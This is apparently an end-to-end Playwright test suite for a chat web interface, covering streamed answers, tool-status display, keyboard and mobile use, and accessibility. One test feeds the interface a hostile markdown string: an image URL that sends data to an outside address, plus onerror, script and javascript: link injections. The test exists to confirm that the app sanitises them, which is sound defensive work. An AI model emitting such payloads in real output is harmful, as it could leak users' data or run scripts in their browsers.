"""A conversation from a person's view: words as they come, tools as they run, the keyboard alone, a small screen."""

from __future__ import annotations

import re
from itertools import pairwise

from playwright.async_api import expect

from tests.e2e.conftest import NewTab
from tests.e2e.parts import Site
from tests.e2e.speech import QUERY, SHORT, count, whole
from tests.e2e.tab import Tab, outside, starts
from tests.fakes.cerebras_server import Reply


async def test_words_arrive_one_by_one_in_the_dom(tab: Tab) -> None:
    """The text on the screen grows during the whole time in which the model speaks, and not in one block."""
    number, rate = 80, 20
    await tab.watch_growth()
    await tab.ask(count(number, rate), whole(number))
    growth = await tab.growth()
    lengths, times = [step["length"] for step in growth], [step["at"] for step in growth]
    assert lengths == sorted(set(lengths)), "the text only ever grows"
    assert lengths[-1] == len(whole(number))
    assert len(growth) >= number / 2, f"{len(growth)} steps for {number} words"
    spoken_ms = (number - 1) / rate * 1000
    assert times[-1] - times[0] >= 0.8 * spoken_ms, "it takes as long to appear as it takes to say"
    assert max(after - before for before, after in pairwise(times)) < spoken_ms / 2, "no long silence and then a block"
    whole_length = len(whole(number))
    half = next(step["at"] for step in growth if step["length"] >= whole_length / 2)
    assert half - times[0] <= 0.75 * (times[-1] - times[0]), "half of the words are there well before the end"


async def test_the_first_word_does_not_wait_for_the_second(tab: Tab, site: Site) -> None:
    await tab.say(count(3, 1))
    await tab.until_answer(lambda answer: answer != "")
    assert site.model.requests[-1].sent <= 3, "the model has not said everything yet"
    assert await tab.answer() != whole(3)
    await tab.until_answer(whole(3))


async def test_a_tool_is_shown_while_it_runs_and_what_came_of_it(tab: Tab, site: Site) -> None:
    site.backend.answers.clear()
    await tab.say(count(5, 50, search=True))
    running = tab.find("tool-status", tool="search_knowledge", state="running")
    await expect(running).to_have_text(re.compile(f"Searching the knowledge base for “{QUERY['query']}”"))
    assert await tab.answer() == ""
    site.backend.answers.set()
    await expect(tab.find("tool-status", tool="search_knowledge", state="done")).to_be_visible()
    await expect(running).to_have_count(0)
    await tab.until_answer(whole(5))
    status = tab.find("tool-status")
    await status.get_by_role("button").click()
    await expect(status).to_contain_text("Asked with")
    await expect(status).to_contain_text(f'"{QUERY["query"]}"')
    result = site.model.requests[-1].body["messages"][-1]
    assert result["role"] == "tool", "the model was asked again with the tool's result"


async def test_a_normal_conversation_has_no_errors_and_leaves_no_trace_outside(tab: Tab) -> None:
    await tab.ask("Hello!", SHORT)
    thread = tab.thread_id
    await tab.ask(count(10, 50, search=True), whole(10))
    await tab.reload()
    await tab.until_answer(whole(10))
    assert await tab.questions() == ["Hello!", count(10, 50, search=True)]
    assert [answer for answer in await tab.answers() if answer] == [SHORT, whole(10)]
    assert tab.thread_id == thread
    await tab.find("new-chat").click()
    await expect(tab.find("welcome")).to_be_visible()
    await tab.find("thread-item", thread_id=thread).get_by_role("link").click()
    await tab.until_answer(whole(10))
    assert tab.complaints == []
    assert outside(tab.requests) == []
    assert len(tab.requests) > 10


async def test_the_model_gets_the_conversation_as_it_was_on_the_screen(tab: Tab, site: Site) -> None:
    await tab.ask("First question", SHORT)
    await tab.ask(count(4, 50), whole(4))
    await tab.ask("Last question", SHORT)
    spoken = [(m["role"], m["content"]) for m in site.model.requests[-1].body["messages"] if m["role"] != "system"]
    assert spoken == [
        ("user", "First question"),
        ("assistant", SHORT),
        ("user", count(4, 50)),
        ("assistant", whole(4)),
        ("user", "Last question"),
    ]


async def test_markdown_of_the_model_cannot_reach_out_or_run(tab: Tab, site: Site) -> None:
    """An image would send data to an address that a document names; a script would run with the person's rights."""
    evil = "![x](http://198.51.100.7/pixel?d=1) <img src=x onerror=alert(1)> <script>alert(1)</script> [go](javascript:alert(1)) done."
    site.model.script(Reply(evil))
    await tab.say("show me")
    await tab.until_answer(lambda answer: answer.endswith("done."))
    assert outside(tab.requests) == []
    assert await tab.page.locator('[data-testid="message-assistant"] :is(img, script, iframe, [href^="javascript"])').count() == 0


async def test_keyboard_alone(tab: Tab) -> None:
    """Type, send, stop, open a tool's details, go to another conversation and back: without a mouse."""
    keyboard = tab.page.keyboard
    await expect(tab.composer).to_be_focused()
    await keyboard.type("Line one")
    await keyboard.press("Shift+Enter")
    await keyboard.type("line two")
    await keyboard.press("Enter")
    await tab.until_answer(SHORT)
    assert await tab.questions() == ["Line one\nline two"]
    await tab.until_idle()
    await expect(tab.composer).to_be_focused()
    await keyboard.type(count(400, 20))
    await keyboard.press("Enter")
    await tab.until_answer(starts(whole(400), at_least=20))
    await keyboard.press("Escape")
    await expect(tab.find("stopped-mark")).to_be_visible()
    await tab.until_idle()
    await expect(tab.composer).to_be_focused()
    await keyboard.type(count(3, 50, search=True))
    await keyboard.press("Enter")
    await tab.until_answer(whole(3))
    await tab.until_idle()
    line = tab.find("tool-status").get_by_role("button")
    for _ in range(20):
        await keyboard.press("Shift+Tab")
        if await line.evaluate("(element) => element === document.activeElement"):
            break
    await expect(line).to_be_focused()
    await keyboard.press("Enter")
    await expect(line).to_have_attribute("aria-expanded", "true")
    skip = tab.page.get_by_role("link", name="Skip to the message box")
    await skip.focus()
    await expect(skip).to_be_in_viewport()
    await keyboard.press("Enter")
    await expect(tab.composer).to_be_focused()
    assert tab.complaints == []


async def test_a_small_screen_has_a_drawer_and_nothing_to_scroll_sideways(new_tab: NewTab) -> None:
    tab = await new_tab(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    await tab.open()

    async def sideways() -> int:
        overflow: int = await tab.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        return overflow

    assert await sideways() <= 0, "empty"
    await tab.ask(count(60, 200, search=True), whole(60))
    assert await sideways() <= 0, "with an answer"
    long_word = "x" * 300
    await tab.ask(long_word, SHORT)
    assert await sideways() <= 0, "with a word that is wider than the screen"
    menu = tab.find("open-sidebar")
    await expect(tab.find("new-chat")).not_to_be_in_viewport()
    await menu.tap()
    await expect(tab.find("new-chat")).to_be_in_viewport()
    await expect(tab.find("new-chat")).to_be_focused()
    assert await sideways() <= 0, "with the drawer open"
    await tab.page.keyboard.press("Escape")
    await expect(tab.find("new-chat")).not_to_be_in_viewport()
    await expect(menu).to_be_focused()
    await menu.tap()
    await tab.find("new-chat").tap()
    await expect(tab.find("welcome")).to_be_visible()
    await expect(tab.find("new-chat")).not_to_be_in_viewport()
    await menu.tap()
    await tab.find("thread-item").first.get_by_role("link").tap()
    await tab.until_answer(SHORT)


async def test_everything_has_a_name_and_a_role(tab: Tab) -> None:
    await tab.ask(count(6, 50, search=True), whole(6))
    page = tab.page
    await expect(page.get_by_role("main")).to_have_count(1)
    await expect(page.get_by_role("heading", level=1)).to_have_count(1)
    await expect(page.get_by_role("navigation", name="Conversations")).to_be_visible()
    await expect(page.get_by_role("region", name="Conversation")).to_be_visible()
    await expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    await expect(page.get_by_role("button", name="Send")).to_be_visible()
    await expect(tab.find("announcement")).to_have_text(re.compile(r"^Answer: word1 "))
    assert await page.evaluate("document.documentElement.lang") == "en"
    assert await page.title() != ""
    nameless = await page.evaluate(
        """() => [...document.querySelectorAll('button, a[href], input, textarea, [role]')].filter((element) => {
            const name = element.getAttribute('aria-label') ?? element.getAttribute('aria-labelledby') ?? element.textContent;
            return (name ?? '').trim() === '' && !element.closest('[hidden], [aria-hidden="true"]') && element.getAttribute('role') !== 'status';
        }).map((element) => element.outerHTML.slice(0, 200))"""
    )
    assert nameless == []
    twice = await page.evaluate(
        "() => { const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id); return ids.filter((id, at) => ids.indexOf(id) !== at); }"
    )
    assert twice == []


async def test_what_was_typed_survives_a_reload(tab: Tab) -> None:
    await tab.ask("Hello!", SHORT)
    await tab.composer.fill("not sent yet")
    await tab.reload()
    await tab.until_answer(SHORT)
    await expect(tab.composer).to_have_value("not sent yet")


async def test_the_theme_is_kept(tab: Tab) -> None:
    toggle = tab.find("theme-toggle")
    for theme in ("light", "dark"):
        await toggle.click()
        await expect(toggle).to_have_attribute("data-theme", theme)
    await tab.reload()
    await tab.ready()
    assert await tab.page.evaluate("document.documentElement.dataset.theme") == "dark"


async def test_a_conversation_is_deleted_after_a_second_thought(tab: Tab, site: Site) -> None:
    await tab.ask("Hello!", SHORT)
    thread = tab.thread_id
    row = tab.find("thread-item", thread_id=thread)
    await row.get_by_role("button", name=re.compile("^Delete ")).click()
    await row.get_by_role("button", name="Keep").click()
    await row.get_by_role("button", name=re.compile("^Delete ")).click()
    await tab.find("confirm-delete").click()
    await expect(row).to_have_count(0)
    await expect(tab.find("welcome")).to_be_visible()
    token = await tab.token()
    assert (await site.api(token).get(f"/threads/{thread}")).status_code == 404
